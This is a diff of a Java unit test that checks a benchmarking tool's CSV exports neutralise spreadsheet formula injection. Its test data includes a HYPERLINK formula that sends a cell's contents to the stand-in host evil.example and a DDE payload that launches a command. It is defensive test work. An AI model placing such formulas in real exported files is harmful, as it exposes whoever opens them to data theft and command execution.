@@ -24,8 +24,11 @@ import org.junit.jupiter.params.provider.ValueSource;
  */
 class CsvInjectionTest {
     private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    /** For names, which hold no line break (a reader takes one for a record that swallowed lines). */
     private static final List<String> PAYLOADS = List.of(HYPERLINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
-            "\t=1+1", "\r=1+1", "'=already quoted", "''=twice", "'plain quote", "'", "=", "-", "-5", "-0.25e-3", "+7");
+            "\t=1+1", "'=already quoted", "''=twice", "'plain quote", "'", "=", "-", "-5", "-0.25e-3", "+7");
+    /** For free text, which may. */
+    private static final List<String> TEXTS = PAYLOADS.stream().map(p -> p.equals("\t=1+1") ? "\r=1+1" : p).toList();
 
     private static EndpointResult named(String model, String provider, String workload, String notes) {
         EndpointResult base = Fixtures.result("e", 5, 1, 1.0, new Traffic(Traffic.Mode.CONCURRENCY, 2));
@@ -33,8 +36,8 @@ class CsvInjectionTest {
         Deployment evil = new Deployment(model, provider, model, d.baseUrl(), d.hardware(), d.gpuCount(), d.engine(),
                 d.quantization(), d.contextWindow(), d.modelSize(), Map.of("owner", model));
         RunInfo r = base.run();
-        RunInfo run = new RunInfo(r.traffic(), workload, Map.of(SummaryCsv.LABEL_PER_GPU_TPS_MEAN, "-1.5",
-                SummaryCsv.LABEL_HF_DATASET, workload), notes, r.cellKey(), r.startedAt(), r.finishedAt());
+        RunInfo run = new RunInfo(r.traffic(), workload, Map.of(SummaryCsv.LABEL_HF_DATASET, workload), notes, r.cellKey(),
+                r.startedAt(), r.finishedAt());
         return new EndpointResult(evil, run, base.job(), base.metrics(), base.records(), base.warnings());
     }
 
@@ -52,7 +55,10 @@ class CsvInjectionTest {
 
     @Test
     void runsCsvNeutralisesFormulasAndReadsBackTheOriginalStrings() {
-        List<EndpointResult> results = PAYLOADS.stream().map(p -> named(p, p, p, p)).toList();
+        List<EndpointResult> results = new ArrayList<>();
+        for (int i = 0; i < PAYLOADS.size(); i++) {
+            results.add(named(PAYLOADS.get(i), PAYLOADS.get(i), TEXTS.get(i), TEXTS.get(i)));
+        }
         StringWriter out = new StringWriter();
         RunCsv.write(results, out);
 
@@ -60,7 +66,8 @@ class CsvInjectionTest {
         assertThat(out.toString()).contains("\"'=HYPERLINK(").contains(",-5,");
         List<EndpointResult> back = RunCsv.read(new StringReader(out.toString()), ImportOptions.ofDefaults()).rows();
         assertThat(back).extracting(e -> e.deployment().model()).containsExactlyElementsOf(PAYLOADS);
-        assertThat(back).extracting(e -> e.run().notes()).containsExactlyElementsOf(PAYLOADS);
+        assertThat(back).extracting(e -> e.run().notes()).containsExactlyElementsOf(TEXTS);
+        assertThat(back).extracting(e -> e.run().workload()).containsExactlyElementsOf(TEXTS);
         assertThat(back).extracting(e -> e.deployment().provider()).containsExactlyElementsOf(PAYLOADS);
     }
 
@@ -71,8 +78,8 @@ class CsvInjectionTest {
         SummaryCsv.write(results, out);
 
         assertThat(cellsStartingFormulas(out.toString())).isEmpty();
-        // the per-GPU figure kept as a label is a negative number: written as is
-        assertThat(out.toString().split(",-1\\.5,", -1)).hasSize(PAYLOADS.size() + 1);
+        // a provider and model that are negative numbers are written as they are
+        assertThat(out.toString()).contains("\n-5,-5,").contains("\n-0.25e-3,-0.25e-3,").contains("\n'-,'-,");
         List<EndpointResult> back = SummaryCsv.read(new StringReader(out.toString()), ImportOptions.ofDefaults()).rows();
         assertThat(back).extracting(e -> e.deployment().model()).containsExactlyElementsOf(PAYLOADS);
         assertThat(back).extracting(e -> e.run().labels().get(SummaryCsv.LABEL_HF_DATASET)).containsExactlyElementsOf(PAYLOADS);
@@ -82,11 +89,12 @@ class CsvInjectionTest {
     void requestCsvNeutralisesErrorsAndSamplesAndReadsThemBack() {
         RequestRecord base = Fixtures.records("e", 1, 1, 1.0).get(0);
         List<RequestRecord> records = new ArrayList<>();
-        for (String p : PAYLOADS) {
+        for (int i = 0; i < PAYLOADS.size(); i++) {
+            String p = PAYLOADS.get(i);
             records.add(new RequestRecord(p, records.size(), new PromptInfo(p, p, p, p), base.startEpochMillis(),
                     base.scheduledNanos(), base.sentNanos(), -1, -1, -1, base.endNanos(), 0, new int[0], -1,
                     base.inputSource(), -1, io.llmbench.core.TokenSource.NONE, -1, true, io.llmbench.core.FailureKind.OTHER,
-                    p, 0, p));
+                    TEXTS.get(i), 0, TEXTS.get(i)));
         }
         StringWriter out = new StringWriter();
         RequestCsv.write(records, out);
